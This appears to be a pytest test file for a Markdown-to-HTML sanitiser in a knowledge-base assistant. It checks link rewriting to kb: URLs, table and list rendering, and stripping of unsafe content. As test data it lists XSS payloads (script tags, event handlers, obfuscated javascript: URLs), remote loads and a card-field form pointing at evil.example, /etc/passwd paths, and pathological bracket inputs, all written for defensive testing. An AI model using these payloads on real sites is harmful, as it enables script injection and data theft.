"""Article markdown becomes safe HTML: no scripts or remote loads, article links as kb: URLs."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kbassist.content.folder import load_content
from kbassist.content.markdown_html import article_html, drop_title_heading, markdown_to_html
from tests.contentkit import article, write

KNOWN = {
    "refunds/refund-policy",
    "refunds/refund-methods",
    "refunds/refund-policy.sl",
    "returns/how-to-return",
}
BASE = "refunds/refund-policy"


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def _links(html: str) -> list[str | None]:
    return [attrs.get("href") for tag, attrs in _parse(html).tags if tag == "a"]


def _text(html: str) -> str:
    return " ".join("".join(_parse(html).text).split())


def _render(text: str) -> str:
    return markdown_to_html(text, KNOWN, base=BASE)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert('x')</script>",
        "<SCRIPT src=https://evil.example/x.js></SCRIPT>",
        '<img src="x" onerror="alert(1)">',
        '<p onclick="alert(1)" style="background:url(\'https://evil.example/t.png\')">p</p>',
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        '<a href="javascript:alert(1)">raw</a>',
        '<a href="java&#x09;script:alert(1)">encoded</a>',
        "<iframe src=https://evil.example></iframe>",
        "<style>body { background: url(https://evil.example/t.png) }</style>",
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        "<svg onload=alert(1)><circle/></svg>",
        '<form action="https://evil.example"><input name="card"></form>',
    ],
)
def test_scripts_handlers_styles_and_remote_loads_are_stripped(hostile: str) -> None:
    html = _render(f"Before.\n\n{hostile}\n\nAfter.")
    lowered = html.lower()
    for banned in ("<script", "javascript:", "onerror", "onclick", "onload", "style", "evil"):
        assert banned not in lowered, html
    allowed = {"p", "a", "em", "strong"}
    assert {tag for tag, _ in _parse(html).tags} <= allowed, html
    assert "Before." in html
    assert "After." in html


def test_remote_images_become_their_alt_text() -> None:
    html = _render(
        "![Returns label](https://cdn.example/label.png) and ![](http://cdn.example/x.gif)\n\n"
        '<img src="https://cdn.example/raw.png" alt="raw">'
    )
    assert "cdn.example" not in html
    assert all(tag != "img" for tag, _ in _parse(html).tags)
    assert _text(html) == "[image: Returns label] and [image]"


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("../returns/how-to-return.md", "kb:returns/how-to-return"),
        ("../returns/how-to-return", "kb:returns/how-to-return"),
        ("returns/how-to-return", "kb:returns/how-to-return"),
        ("/returns/how-to-return.md", "kb:returns/how-to-return"),
        ("refund-methods.md", "kb:refunds/refund-methods"),
        ("./refund-methods", "kb:refunds/refund-methods"),
        ("refund-policy.sl.md", "kb:refunds/refund-policy.sl"),
        ("../returns/how-to-return.md#steps", "kb:returns/how-to-return"),
        ("kb:returns/how-to-return", "kb:returns/how-to-return"),
    ],
)
def test_article_links_become_kb_urls(href: str, expected: str) -> None:
    assert _links(_render(f"See [the article]({href}).")) == [expected]


@pytest.mark.parametrize(
    "href",
    ["../returns/no-such-article.md", "kb:gone/away", "../../../etc/passwd", "refunds/"],
)
def test_links_to_unknown_articles_are_text_with_a_note(href: str) -> None:
    html = _render(f"See [the old page]({href}) today.")
    assert _links(html) == []
    assert _text(html) == "See the old page (missing article) today."


def test_relative_links_in_raw_html_follow_the_same_rules() -> None:
    html = _render(
        '<p><a href="../returns/how-to-return.md">known</a> <a href="../gone.md">gone</a></p>'
    )
    assert _links(html) == ["kb:returns/how-to-return", None]


@pytest.mark.parametrize("href", ["data:text/html,<b>x</b>", "file:///etc/passwd", "ftp://x/y"])
def test_other_schemes_are_plain_text(href: str) -> None:
    html = _render(f"A [link]({href}) here.")
    assert _links(html) == []
    assert _text(html) == "A link here."


def test_web_and_mail_links_are_kept_for_the_browser() -> None:
    html = _render(
        "[Guide](https://consumer.example/refunds?a=1&b=2), [mail](mailto:help@larkspur.example), "
        "<help@larkspur.example>, <http://larkspur.example/stores> and [top](#details)"
    )
    assert _links(html) == [
        "https://consumer.example/refunds?a=1&b=2",
        "mailto:help@larkspur.example",
        "mailto:help@larkspur.example",
        "http://larkspur.example/stores",
        "#details",
    ]


def test_tables_render_with_alignment() -> None:
    html = _render("| Option | Price |\n|:---|---:|\n| Standard | £4.95 |\n| Express | £7.95 |\n")
    tags = _parse(html).tags
    assert [tag for tag, _ in tags].count("tr") == 3
    assert ("th", {"align": "left"}) in tags
    assert ("td", {"align": "right"}) in tags
    assert _text(html) == "Option Price Standard £4.95 Express £7.95"


def test_code_lists_and_headings_render() -> None:
    html = _render("## Steps\n\n1. Ask\n2. Check\n\n```\n{{ order_number }} <b>\n```\n")
    names = [tag for tag, _ in _parse(html).tags]
    assert names == ["h2", "ol", "li", "li", "pre", "code"]
    assert "{{ order_number }} &lt;b&gt;" in html


def test_a_list_or_table_right_after_a_paragraph_line_is_still_a_list_or_table() -> None:
    html = _render("**Phones**\n- Monday\n- Tuesday\n\nStores:\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    names = [tag for tag, _ in _parse(html).tags]
    assert names[:5] == ["p", "strong", "ul", "li", "li"]
    assert "table" in names


def test_lines_in_fenced_code_are_left_alone() -> None:
    html = _render("```\nline\n- not an item\n```\n")
    assert "line\n- not an item" in html


def test_article_html_drops_the_title_heading_and_resolves_from_the_articles_folder(
    tmp_path: Path,
) -> None:
    write(
        tmp_path,
        "articles/refunds/refund-policy.md",
        """
        ---
        title: Refund policy
        summary: Full refund within 30 days.
        ---
        # Refund  Policy

        Start with [how to return](../returns/how-to-return.md).

        # Refund policy in shops
        """,
    )
    article(tmp_path, "returns/how-to-return", "How to return")
    content = load_content(tmp_path)
    html = article_html(content.articles["refunds/refund-policy"], content.articles)
    assert [tag for tag, _ in _parse(html).tags] == ["p", "a", "h1"]
    assert _links(html) == ["kb:returns/how-to-return"]
    assert "Refund policy in shops" in html


@pytest.mark.parametrize(
    ("body", "kept"),
    [
        ("# Refunds\n\nText", "# Refunds\n\nText"),
        ("Intro\n\n# Refund policy\n", "Intro\n\n# Refund policy\n"),
        ("Refund policy\n=============\nText", "Text"),
        ("\n# Refund policy #\nText", "Text"),
    ],
)
def test_only_a_leading_title_heading_is_dropped(body: str, kept: str) -> None:
    assert drop_title_heading(body, "Refund policy") == kept


FRAGMENTS = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=https://x.example/a.png onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![i](https://x.example/i.png)",
        "<a href='javascript:x'>",
        "<",
        ">",
        '"',
        "'",
        "=",
        "`",
        "\n",
        "\n\n",
        "| a |",
        "- ",
        "text",
        "&#106;avascript:",
        "<p style='x'>",
        "<div onmouseover=x>",
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_no_combination_of_hostile_pieces_gets_through(text: str) -> None:
    html = _render(text)
    for tag, attrs in _parse(html).tags:
        assert tag not in {"script", "img", "div", "style", "iframe"}, html
        assert set(attrs) <= {"href", "align", "id", "start"}, html
        href = attrs.get("href") or ""
        assert href.startswith(("kb:", "https:", "http:", "mailto:", "#")) or not href, html


HOSTILE = [
    "[" * 20000 + "](" * 20000,
    "![" * 20000 + "](" * 20000,
    "[a][" * 20000,
    "[a](<" * 20000,
    "<a " * 20000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=["brackets", "images", "refs", "angles", "tags"])
def test_pathological_openers_are_bounded_to_the_budget(text: str) -> None:
    from kbassist.content.markdown_html import (
        LOOSE_OPENER_BUDGET,
        loose_openers,
        neutralise_openers,
    )

    # The parser scans from each loose opener; after neutralising, none is left to scan from.
    assert len(loose_openers(text)) > LOOSE_OPENER_BUDGET
    assert loose_openers(neutralise_openers(text)) == []
    html = markdown_to_html(text, KNOWN)
    assert "<a" not in html.replace("&lt;a", "")


def test_a_few_loose_openers_render_as_before() -> None:
    from kbassist.content.markdown_html import neutralise_openers

    text = "See [the guide](https://g.example) [draft and <b>bold</b>"
    assert neutralise_openers(text) == text
    assert 'href="https://g.example"' in markdown_to_html(text, KNOWN)


def test_markdown_over_the_size_budget_is_refused() -> None:
    from kbassist.content.markdown_html import MAX_MARKDOWN_CHARS, MarkdownTooComplexError

    with pytest.raises(MarkdownTooComplexError):
        markdown_to_html("a" * (MAX_MARKDOWN_CHARS + 1), KNOWN)
